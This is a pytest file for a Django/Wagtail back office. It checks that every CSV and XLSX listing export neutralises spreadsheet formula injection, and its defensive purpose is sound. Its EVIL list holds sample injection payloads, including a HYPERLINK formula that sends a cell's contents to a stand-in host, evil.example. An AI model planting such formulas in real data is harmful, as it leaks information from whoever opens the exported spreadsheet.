"""No export hands a formula to the operator's spreadsheet (issue 10, finding 6): every listing of the back
office that exports, found from the URLconf (so a new listing is covered), in CSV and XLSX."""

import csv
import io

import pytest
from django.urls import get_resolver
from django_tenants.utils import tenant_context
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from tests.conftest import HUB_A
from tests.factories import CohortFactory, CommunityFactory, OrganisationFactory, StreetFactory

pytestmark = pytest.mark.django_db
A = {"HTTP_HOST": HUB_A["domain"]}
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(1)", "\t=1"]


def _exporting_listings(patterns=None, prefix="/"):
    """(url, view class) of every URL without parameters whose view exports spreadsheets."""
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        route = str(pattern.pattern)
        if "<" in route or "(?P" in route:
            continue
        if hasattr(pattern, "url_patterns"):
            yield from _exporting_listings(pattern.url_patterns, prefix + route.lstrip("^"))
            continue
        view_class = getattr(pattern.callback, "view_class", None)
        # Viewsets hand list_export to as_view(), so it sits in the view's initkwargs, not on its class.
        exported = getattr(pattern.callback, "view_initkwargs", {}).get("list_export") or getattr(
            view_class, "list_export", None
        )
        if view_class and issubclass(view_class, SpreadsheetExportMixin) and exported:
            yield prefix + route.lstrip("^").rstrip("$"), view_class


@pytest.fixture
def poisoned(hub_a):
    with tenant_context(hub_a):
        from incubator.filings.models import DocumentRequirement

        street = StreetFactory(name=EVIL[0], code="=1+2")
        community = CommunityFactory(street=street, name=EVIL[1])
        OrganisationFactory(name=EVIL[0], community=community, street=street, responsible_person=EVIL[3])
        CohortFactory(name=EVIL[2])
        DocumentRequirement.objects.create(legal_form="filed_community", title=EVIL[0], guidance=EVIL[4])
        yield


def test_every_csv_and_xlsx_export_neutralises_formulas(client, hub_a_admin, poisoned):
    from openpyxl import load_workbook

    listings = sorted(set(_exporting_listings()))
    assert len(listings) >= 8, listings  # the organisations app's listings at least
    client.force_login(hub_a_admin)
    seen_evil = 0
    for url, _view in listings:
        response = client.get(url, {"export": "csv"}, **A)
        assert response.status_code == 200, url
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(body)):
            for value in row:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (url, value)
                seen_evil += value.startswith("'=HYPERLINK")
        xlsx = client.get(url, {"export": "xlsx"}, **A)
        assert xlsx.status_code == 200, url
        workbook = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                assert all(cell.data_type != "f" for cell in row), url
    assert seen_evil >= 2, listings  # the poisoned rows were exported, made harmless
